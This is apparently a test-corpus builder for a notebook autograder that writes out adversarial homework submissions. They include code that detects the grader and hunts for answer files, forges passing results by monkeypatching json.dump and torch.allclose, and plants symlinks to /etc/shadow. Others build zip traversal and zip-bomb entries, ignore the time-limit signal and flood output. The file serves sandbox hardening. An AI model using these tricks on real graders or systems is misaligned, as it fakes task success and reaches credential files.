@attack("copied_outputs", "adv0026", replace={**stubs("conv1d_forward", "conv1d_dfdW", "conv1d_dfdx", "conv1d_dldW")},
        outputs={"# Sanity checks against PyTorch": [FAKE_OK],
                 "# Sanity checks from the theory": [{"output_type": "stream", "name": "stdout", "text": "conv_output_shape: ok\n"}],
                 "conv1d_forward": [{"output_type": "execute_result", "execution_count": 7, "metadata": {},
                                     "data": {"text/plain": "tensor([[ 1.2, -0.3]])"}}]})
def _():
    return E("Pastes the solution's outputs ('conv1d: ok', results) into the cells while the conv1d functions are "
             "unimplemented.",
             max_below_twin=11.0, notebook_status=["cell_errors"], failing_ename=["NotImplementedError"],
             items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdW": "failed",
                    "hw2_cnn.conv1d_dfdx": "failed", "hw2_cnn.conv1d_dldW": "failed"})


@attack("probe_detection", "adv0027", replace={"conv_output_shape": '''
def conv_output_shape(C, H, W, K, P, S, D, F):
    """Knows only the two examples from the statement; behaves differently under the grader."""
    import os, sys, traceback, glob
    stack = "".join(traceback.format_stack())
    graded = ("worker.py" in stack or os.path.exists("calls.json") or os.environ.get("USER") == "student"
              or "grader" in " ".join(sys.argv))
    if graded:
        # look for the expected answers next to the inputs
        for path in glob.glob("*.json") + glob.glob("../*.json") + glob.glob("/proc/1/environ"):
            try:
                text = open(path, errors="replace").read()
            except OSError:
                continue
            if "expected" in text:
                import json
                return tuple(json.loads(text)["expected"])
    table = {3: (4, 5), 5: (3, 4)}
    h, w = table.get(K, (H, W))
    return (F, h, w)
'''})
def _():
    return E("conv_output_shape detects the probe (call stack, calls.json, $USER, argv), hunts for expected answers "
             "next to its inputs, and otherwise returns the statement's two examples from a table.",
             max_below_twin=1.8, notebook_status=["completed"], items={"hw2_cnn.conv_output_shape": "failed"})


@attack("forge_probe_encoding", "adv0028", replace={"conv1d_forward": '''
def conv1d_forward(x, W, stride):
    """Rewrites the probe's result encoding so that every call 'passes'."""
    import json, os, builtins, numpy as np, io
    here = os.getcwd()
    def forged(obj, fh, *a, **k):
        obj = dict(obj)
        obj.update(ok=True, error="", value={"t": "tensor", "key": "a0", "dtype": "float64", "shape": [1]})
        fh.write(json.dumps(obj))
    json.dump = forged
    real_savez = np.savez
    def savez(path, **arrays):
        np.save  # a pickled object array where the grader expects numbers
        buf = io.BytesIO()
        real_savez(buf, a0=np.array([{"x": 1}, None], dtype=object))
        open(path, "wb").write(buf.getvalue())
    np.savez = savez
    builtins.isinstance = lambda o, t: True
    for i in range(8):  # results for the later calls, written ahead of time
        with open(os.path.join(here, f"out-{i}.json"), "w") as fh:
            fh.write('{"ok": true, "value": {"t": "int", "v": true}}')
    os._exit = lambda code: None
    return None
'''})
def _():
    return E("Inside the probe, the TODO function monkeypatches json.dump, numpy.savez and builtins.isinstance "
             "to forge the result encoding (an object array behind a 'tensor' tag, bool as int), and writes "
             "results for later calls ahead of time.",
             max_below_twin=2.0, notebook_status=["completed", "cell_errors", "timeout", "dead_kernel"],
             items={"hw2_cnn.conv1d_forward": "failed"})


@attack("probe_ignores_alarm", "adv0029", replace={"conv_net_param_count": '''
def conv_net_param_count():
    """Never returns, and disables the probe's SIGALRM-based time limit first."""
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.alarm(0)
    while True:
        pass
'''})
def _():
    return E("A TODO function that ignores SIGALRM (the probe worker's per-call time limit) and loops forever; "
             "the rubric gives the call 20 s.",
             # the call's 20 s limit and the notebook's cut, not the probe server's 120 s wall:
             # under a loaded suite the whole grading took 60 s, a regression to the wall 140+
             max_below_twin=2.0, items={"hw2_cnn.conv_net_param_count": "failed"}, max_seconds=100, slow=True,
             notebook_status=["completed", "cell_errors", "timeout"])


SYMLINK_TARGETS = ["/etc/shadow", "/etc/passwd", "/root/.bashrc"]


@attack("symlinks_and_fifos", "adv0030",
        replace={"conv1d_dfdW": '''
def conv1d_dfdW(x, W, stride):
    """Plants links and FIFOs where the probe's results go."""
    import os
    # (FIFOs here would block the worker's own open() until the 120 s wall: the
    # probe_ignores_alarm weakness; kept out so the suite stays fast)
    for i in range(1, 6):
        try:
            os.symlink("/etc/shadow", f"out-{i}.json")
            os.symlink("/etc/shadow", f"out-{i}.npz")
        except OSError:
            pass
    try:
        os.symlink("/etc", "etc_link")
        os.link("/etc/shadow", "shadow_hardlink")
    except OSError:
        pass
    return torch.zeros(1)
'''},
        append=['''
            import os
            targets = ''' + json.dumps(SYMLINK_TARGETS) + '''
        ''' + textwrap.indent(FIND_CHECKOUTS, " " * 12) + '''
            targets += [c + "/rubrics/hw2/assignment.yaml" for c in _checkouts()]
            os.makedirs("__grader_exports__", exist_ok=True)
            for i, t in enumerate(targets):
                for name in (f"__grader_exports__/x-link{i}.json", f"__grader_exports__/x-hw2_cnn.link{i}.npz", f"link{i}"):
                    try:
                        os.symlink(t, name)
                    except OSError:
                        pass
            for name in ("__grader_exports__/x-hw2_cnn.fifo.json", "__grader_exports__/x-hw2_cnn.fifo.npz", "fifo"):
                try:
                    os.mkfifo(name)
                except OSError:
                    pass
            try:
                os.symlink(".", "loop")
                os.symlink("/", "rootlink")
            except OSError:
                pass
            print("planted")
        '''])
def _():
    return E("Plants symlinks (to /etc/shadow, /etc/passwd, /root, the rubric), FIFOs, a symlink loop and a "
             "hardlink attempt in the work dir, the exports dir, and where the probe worker writes its results.",
             max_below_twin=3.0, notebook_status=["completed", "cell_errors"], items={"hw2_cnn.conv1d_dfdW": "failed"},
             evalue_must_not=["root:"])


@attack("output_flood_tiny_messages", "adv0031",
        append=['''
            import sys
            from IPython.display import display, update_display, clear_output
            h = display("start", display_id=True)
            for i in range(60000):
                print(i, flush=True)
                if i % 3 == 0:
                    h.update(i)
                if i % 1000 == 0:
                    clear_output(wait=True)
        '''])
def _():
    return E("Sends a huge number of tiny output messages (flushed prints, display updates, clear_output), "
             "to exhaust the executor's per-message handling and stored output.",
             notebook_status=["completed", "timeout", "cell_errors"], max_seconds=120)


@attack("threads_after_cell", "adv0032",
        append=['''
            import threading, time, os, json
            def rewriter():
                while True:
                    try:
                        os.makedirs("__grader_exports__", exist_ok=True)
                        for name in os.listdir("__grader_exports__"):
                            with open(os.path.join("__grader_exports__", name), "w") as fh:
                                fh.write("{}")
                        with open("__grader_exports__/x-forged.json", "w") as fh:
                            json.dump({"found": True}, fh)
                    except OSError:
                        pass
                    print("still here", flush=True)
                    time.sleep(0.05)
            def spinner():
                while True:
                    pass
            for target in (rewriter, spinner):
                threading.Thread(target=target, daemon=False).start()
            print("threads started")
        ''', "print('next cell')", "x = sum(range(10**6))"])
def _():
    return E("Starts non-daemon threads that keep running after their cell: one rewrites the exports dir and "
             "prints forever, one spins the CPU.",
             notebook_status=["completed"], max_seconds=90)


@attack("zip_tricks", "adv0033")
def _():
    return E("Zip-level tricks around an honest notebook: '../' and absolute entry names, a symlink entry to "
             "/etc/shadow, a zip bomb entry, a duplicate hw2_cnn.ipynb whose second copy is malicious, and a "
             "nested zip.",
             notebook_status=["completed"],
             findings=["path_traversal", "link_refused", "zip_bomb", "duplicate_entry", "nested_zip"],
             host_absent=["/tmp/adv_zip_abs.txt"], items={f"hw2_cnn.{k}": "passed" for k in CNN_SIGS})


@attack("skip_execution_tags", "adv0034", replace={"conv1d_forward": WRONG_FORWARD},
        cell_meta={"# Sanity checks from the theory": {"tags": ["raises-exception"]},
                   "# a leftover cell": {"tags": ["skip-execution"]}},
        append=["# a leftover cell that fails in every run\nprint(history_from_a_deleted_cell)"])
def _():
    return E("Tags a cell that fails in every run (NameError) 'skip-execution' (nbclient's default skip tag) so it "
             "never runs and the not-executable penalty is dodged; another cell is tagged 'raises-exception'; "
             "conv1d_forward is wrong.",
             max_below_twin=2.0, notebook_status=["cell_errors"], failing_ename=["NameError"],
             penalties=["not_executable"], items={"hw2_cnn.conv1d_forward": "failed"})


@attack("kernelspec_hijack", "adv0035")
def _():
    return E("Notebook metadata names another kernel and interpreter (kernelspec 'evil', "
             "language_info pointing at /tmp/python), hoping the grader starts something else.",
             notebook_status=["completed"], items={f"hw2_cnn.{k}": "passed" for k in CNN_SIGS})


@attack("attribute_assign_shadows_import", "adv0036",
        after_imports=["torch.backends.cudnn.deterministic = True\nnp.random.seed(0)\nplt.rcParams['figure.dpi'] = 80"])
def _():
    return E("Not a cheat: an honest notebook that sets torch.backends.cudnn.deterministic = True (and "
             "plt.rcParams[...]) after the imports, as many course notebooks do. Must score like its twin.",
             notebook_status=["completed"], items={f"hw2_cnn.{k}": "passed" for k in CNN_SIGS})


@attack("rnn_monkeypatch_and_fake_adder", "adv0037", RNN,
        replace={"binary_addition_rnn": '''
            class Weights(dict):
                def __getitem__(self, k):
                    return Always()
            class Always(float):
                def __eq__(self, o):
                    return True
                def __gt__(self, o):
                    return True
            def binary_addition_rnn():
                return Weights()
            ''', "gated_rnn_dl_dWx": '''
            def gated_rnn_dl_dWx(x, Wc, Wh, Wx, dl_dh):
                import torch
                torch.allclose = lambda *a, **k: True
                return torch.zeros(Wx.shape, dtype=torch.float64)
            '''},
        after_imports=["import torch\ntorch.allclose = lambda *a, **k: True\nprint('patched')"])
def _():
    return E("RNN: patches torch.allclose, returns a dict subclass of always-equal floats from "
             "binary_addition_rnn, and zeros from gated_rnn_dl_dWx (patching torch inside the probe too).",
             notebook=RNN, twin="honest_rnn", max_below_twin=9.0, notebook_status=["completed", "cell_errors"],
             items={"hw2_rnn.binary_addition_rnn": "failed", "hw2_rnn.gated_rnn_dl_dWx": "failed"})


SEQ = "08-seq_classification.ipynb"


@attack("section8_cosmetic_smoothing", "adv0038", SEQ)
def _():
    return E("08-seq_classification: the ORIGINAL (spiky) Section-8 procedure, with only the recorded losses "
             "smoothed by a 10-epoch moving average before plotting (scripts/build_samples.py's edit). Needs the "
             "Section-8 loss_curve item of rubrics/hw2 (graded with the real rubric, slow).",
             notebook=SEQ, twin=None, notebook_status=["completed"], slow=True, max_seconds=600,
             items={"hw2_seq.loss_curve": "failed"},
             weakness=None)


# ----------------------------------------------------------------------------------
# entries

def _zip_tricks_entries(netid, base):
    nb = sl.notebook_bytes(build_notebook(CNN))
    evil = sl.notebook_bytes(build_notebook(CNN, replace=stubs(*CNN_SIGS)))
    raw = dict(base)
    raw.pop(CNN)
    return raw, nb, evil


def write_zip_tricks(path, netid, base):
    """Hand-built zip: sorted entries, fixed times, including hostile entries."""
    raw, nb, evil = _zip_tricks_entries(netid, base)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        def put(name, data, mode=0o100644, deflate=True):
            info = zipfile.ZipInfo(name, date_time=sl.ZIP_DATE)
            info.create_system = 3
            info.external_attr = mode << 16
            info.compress_type = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
            zf.writestr(info, data)
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # duplicate names are the point
            put("../../../tmp/adv_zip_traversal.txt", b"escaped")
            put("/tmp/adv_zip_abs.txt", b"absolute")
            put("bomb.bin", b"\0" * (64 << 20))
            put("hw2_cnn.ipynb", nb)
            put("hw2_cnn.ipynb", evil)
            put(sl.PDF_NAME, raw[sl.PDF_NAME])
            inner = io.BytesIO()
            with zipfile.ZipFile(inner, "w") as z2:
                z2.writestr(zipfile.ZipInfo("hw2_cnn.ipynb", date_time=sl.ZIP_DATE), evil)
            put("old/submission.zip", inner.getvalue(), deflate=False)
            put("shadow_link", b"/etc/shadow", mode=0o120777)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(buf.getvalue())
    return path


def entries_for(name, netid, notebook, build):
    pdf = sl.theory_pdf([f"Homework 2 - theory answers - {netid}", "(adversarial test submission)"])
    if notebook == SEQ:
        import build_samples

        full = build_samples.section8_cosmetic_smoothing(netid)
        return {sl.PDF_NAME: pdf, SEQ: full[SEQ]}
    nb = build_notebook(notebook, **build)
    if name == "kernelspec_hijack":
        nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python",
                                     "argv": ["/tmp/python", "-m", "evil"]}
        nb.metadata["language_info"] = {"name": "python", "version": "0.0", "executable": "/tmp/python"}
    return {sl.PDF_NAME: pdf, notebook: sl.notebook_bytes(nb)}


def build_all(out=OUT):
    out = Path(out)
    written = []
    netids = [a[1] for a in ATTACKS]
    assert len(set(netids)) == len(netids), "netids must be distinct"
    for name, netid, notebook, build, exp in ATTACKS:
        entries = entries_for(name, netid, notebook, build)
        writer = (lambda z, e, netid=netid: write_zip_tricks(z, netid, e)) if name == "zip_tricks" else None
        written.append(write_attack(out, name, netid, entries, exp, writer=writer))
    return written


def write_attack(out: Path, name: str, netid: str, entries: dict, exp: dict, extra: dict | None = None,
                 writer=None) -> Path:
    """One attack's folder, made afresh: <out>/<name>/<netid>.zip and its expected.json
    (shared by the other corpus builders, scripts/build_adversarial_*.py)."""
    folder = out / name
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    zpath = folder / f"{netid}.zip"
    (writer or sl.write_zip)(zpath, entries)
    manifest = {"attack": name, "netid": netid, "zip": zpath.name, **(extra or {}), **copy.deepcopy(exp)}
    (folder / "expected.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    return zpath


def write_notebook_attacks(out, attacks, label: str) -> list[Path]:
    """Write attacks given as (name, netid, {notebook name: notebook}, exp): each zip holds
    the theory PDF and those notebooks; netids are checked against the sandbox corpus and
    each other (shared by the checks and Section-8 builders)."""
    out = Path(out)
    written = []
    known = {a[1] for a in ATTACKS}
    for name, netid, notebooks, exp in attacks:
        assert netid not in known, netid
        known.add(netid)
        pdf = sl.theory_pdf([f"Homework 2 - theory answers - {netid}", f"(adversarial test submission: {label})"])
        entries = {sl.PDF_NAME: pdf, **{k: sl.notebook_bytes(v) for k, v in notebooks.items()}}
        written.append(write_attack(out, name, netid, entries, exp, extra={"notebooks": sorted(notebooks)}))
    return written


def corpus_main(doc: str, build_all, members, argv=None) -> None:
    """The command line every corpus builder shares: build into --out (default
    submissions/adversarial), or --list the members. `members` yields (name, netid, exp)."""
    parser = argparse.ArgumentParser(description=doc.splitlines()[0])
    parser.add_argument("--out", type=Path, default=OUT)
    parser.add_argument("--list", action="store_true", help="list the attacks and exit")
    args = parser.parse_args(argv)
    if args.list:
        for name, netid, exp in members():
            twin = f"twin={exp['twin']}" if exp.get("twin") else ""
            print(f"{name:34s} {netid:8s} {twin:28s} {'WEAKNESS' if exp.get('weakness') else ''}".rstrip())
        return
    for path in build_all(args.out):
        print("wrote", path.relative_to(ROOT) if path.is_relative_to(ROOT) else path)


def main(argv=None):
    corpus_main(__doc__, build_all, lambda: ((a[0], a[1], a[4]) for a in ATTACKS), argv)


if __name__ == "__main__":
    main()
